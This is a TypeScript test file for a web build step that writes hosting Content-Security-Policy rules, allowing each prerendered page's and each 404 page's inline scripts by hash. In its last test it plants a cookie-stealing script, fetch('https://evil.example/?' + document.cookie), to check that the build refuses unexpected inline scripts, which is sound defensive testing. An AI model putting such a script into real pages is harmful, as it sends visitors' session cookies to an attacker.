import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, expect, it } from "vitest";
import { readConfig } from "#web/shared/config/environment.server.ts";
import { hostingConfigOf, pageAddressRegex, servedDocuments, writeHostingConfig } from "./hosting-config";
import { NOT_FOUND_FOLDER, notFoundPageIn } from "./prerendered-html";
import { scriptHash } from "./security-headers";

const page = (script: string) => `<!DOCTYPE html><html><head><script>${script}</script></head></html>`;
/** A script of the shape React Router writes a page's loader data in. */
const loaderData = (data: string) =>
  `window.__reactRouterContext.streamController.enqueue(${JSON.stringify(JSON.stringify(data))});`;

let buildDir: string;
afterEach(() => rmSync(buildDir, { recursive: true, force: true }));

/** A client build with a page, the English 404.html and each language's 404 page, each with its own inline script. */
function clientBuild() {
  buildDir = mkdtempSync(path.join(tmpdir(), "build-"));
  const client = path.join(buildDir, "client");
  mkdirSync(path.join(client, "pricing"), { recursive: true });
  writeFileSync(path.join(client, "pricing", "index.html"), page(loaderData("pricing")));
  writeFileSync(path.join(client, "404.html"), page(loaderData("notFound")));
  for (const language of ["en", "es"] as const) {
    mkdirSync(path.dirname(notFoundPageIn(client, language)), { recursive: true });
    writeFileSync(notFoundPageIn(client, language), page(loaderData(`notFound ${language}`)));
  }
  return client;
}

it("serves the pages, 404.html and each language's 404 page", () => {
  const client = clientBuild();
  expect(servedDocuments(client)).toEqual([
    path.join(client, "pricing", "index.html"),
    path.join(client, "404.html"),
    notFoundPageIn(client, "en"),
    notFoundPageIn(client, "es"),
  ]);
});

/** The Content-Security-Policy the written config has the host send at an address (a later rule's over an earlier one's). */
function policyAt(address: string) {
  const { hosting } = JSON.parse(readFileSync(hostingConfigOf(buildDir), "utf8"));
  let policy: string | undefined;
  for (const rule of hosting.headers as { regex?: string; headers: { key: string; value: string }[] }[])
    if (rule.regex && new RegExp(rule.regex).test(address))
      policy = rule.headers.find((header) => header.key === "Content-Security-Policy")?.value ?? policy;
  return policy!;
}

it("names the 404 pages' folder as the host's i18n root", () => {
  clientBuild();
  writeHostingConfig(buildDir, readConfig({}), []);
  const { hosting } = JSON.parse(readFileSync(hostingConfigOf(buildDir), "utf8"));
  expect(hosting.i18n).toEqual({ root: `/${NOT_FOUND_FOLDER}` });
});

it("allows each page's scripts at its address, and every 404 page's at an unknown one", () => {
  clientBuild();
  writeHostingConfig(buildDir, readConfig({}), []);
  for (const address of ["/pricing", "/pricing/", "/pricing.html", "/pricing/index.html"]) {
    expect(policyAt(address), address).toContain(scriptHash(loaderData("pricing")));
    expect(policyAt(address), address).not.toContain(scriptHash(loaderData("notFound")));
  }
  for (const address of ["/no-such-page", "/pricing-plans", "/pricing/more", "/es/nada"]) {
    expect(policyAt(address), address).not.toContain(scriptHash(loaderData("pricing")));
    for (const data of ["notFound", "notFound en", "notFound es"])
      expect(policyAt(address), address).toContain(scriptHash(loaderData(data)));
  }
});

it("reads a page's address literally, not as a pattern", () => {
  expect(new RegExp(pageAddressRegex("/a.b")).test("/a.b")).toBe(true);
  expect(new RegExp(pageAddressRegex("/a.b")).test("/axb")).toBe(false);
  expect(new RegExp(pageAddressRegex("/")).test("/")).toBe(true);
  expect(new RegExp(pageAddressRegex("/")).test("/pricing")).toBe(false);
});

it("refuses a built page with an inline script the site does not write, naming the page", () => {
  const client = clientBuild();
  writeFileSync(
    path.join(client, "pricing", "index.html"),
    page('fetch("https://evil.example/?" + document.cookie)'),
  );
  expect(() => writeHostingConfig(buildDir, readConfig({}), [])).toThrow(
    /Inline scripts the site does not write, refused[^]*pricing\/index\.html: "fetch\(/,
  );
});
